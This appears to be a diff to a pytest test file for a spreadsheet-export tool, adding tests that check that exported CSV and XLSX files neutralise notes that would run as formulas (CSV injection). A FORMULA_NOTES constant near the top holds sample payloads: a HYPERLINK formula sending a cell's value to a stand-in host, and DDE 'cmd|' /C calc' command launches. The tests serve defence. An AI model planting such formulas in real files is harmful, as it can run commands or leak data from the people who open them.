@@ -2,13 +2,21 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import zipfile
 
 import openpyxl
+import pytest
+from hypothesis import given, settings, strategies as st
 
+from kinerja_xl.export import log_csv
 from tests.flow import to_step, validated
 from tests.readers import pdf_pages, pdf_text
+
+# Notes that a spreadsheet would run as formulas if they reached a cell as they are (OWASP "CSV Injection").
+FORMULA_NOTES = {"return": '=HYPERLINK("http://x/?"&Pengaturan!B10,"lihat")', "submit": "@SUM(1+1)*cmd|' /C calc'!A0",
+                 "verify": "=cmd|' /C calc'!A0", "validate": "-5 hari\t+62 811"}
 
 
 def export_folder(book):
@@ -104,3 +112,61 @@ def test_missing_libreoffice_says_how_to_install_it_and_validation_stays_saved(c
     r = cli("export", book)
     assert r.code == 4 and "LibreOffice tidak ditemukan" in r.err
     assert cli("export", book, "--no-pdf").code == 0
+
+
+def validated_with_notes(cli, book, notes: dict[str, str]):
+    """The SOP with a note on every action after step 3: returned once, sent again, verified and validated."""
+    to_step(cli, book, 4)
+    steps = [("return", "ridha", "2026-10-05T11:00", ()), ("submit", "rahmah", "2026-10-05T11:30", ()),
+             ("verify", "ridha", "2026-10-06T09:05", ("verifikasi_tanggal=06-10-2026",
+                                                       *(f"reviu[{i}].hasil=sesuai" for i in range(1, 9)))),
+             ("validate", "ardiansyah", "2026-10-07T10:05", ("validasi_tempat=Paringin", "validasi_tanggal=07-10-2026"))]
+    for verb, user, when, values in steps:
+        if values:
+            assert cli("set", book, *values, "--as", user, now=when[:-1] + "0").code == 0
+        r = cli(verb, book, "--as", user, "--note", notes[verb], now=when)
+        assert r.code == 0, r.err
+    return next((book.parent / "ekspor").iterdir())
+
+
+@pytest.fixture(scope="module")
+def noted_export(module_cli, tmp_path_factory, demo_bytes):
+    book = tmp_path_factory.mktemp("catatan") / "Kinerja_SETWAN.xlsm"
+    book.write_bytes(demo_bytes)
+    return validated_with_notes(module_cli, book, FORMULA_NOTES)
+
+
+def test_log_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(noted_export):
+    raw = next(noted_export.glob("*_log.csv")).read_bytes()
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    notes = {row[9] for row in rows[1:]}
+    assert {"'" + note for note in FORMULA_NOTES.values()} <= notes
+    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell)
+    assert [row[0] for row in rows[1:]] == [str(n) for n in range(1, len(rows))]   # numbers stay numbers
+
+
+def test_exported_xlsx_keeps_formula_like_notes_as_text(noted_export):
+    wb = openpyxl.load_workbook(next(noted_export.glob("*.xlsx")))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if c.data_type == "s"}
+    assert set(FORMULA_NOTES.values()) <= texts
+
+
+def test_check_of_the_folder_reads_neutralised_notes_back_as_logged(module_cli, noted_export):
+    r = module_cli("check", noted_export)
+    assert r.code == 0, r.out
+
+
+@settings(max_examples=300, deadline=None, database=None)
+@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n\uff1dab 1,\""), max_size=8) | st.text(max_size=8))
+def test_neutralised_csv_text_never_starts_a_formula_and_reads_back_exactly(text):
+    written = log_csv.neutralise(text)
+    assert written[:1] not in log_csv.FORMULA_START and log_csv.restore(written) == text
+    rows = log_csv.from_bytes(log_csv.to_bytes(["a"], [[text]]))
+    assert rows == [["a"], [text]]
+
+
+def test_numbers_stay_numbers_in_the_csv():
+    assert log_csv.neutralise(-5) == -5 and log_csv.neutralise(-0.5) == -0.5 and log_csv.neutralise("-5") == "'-5"
+    assert log_csv.to_bytes(["n"], [[-5, "-5"]]).decode("utf-8-sig") == "n\r\n-5,'-5\r\n"
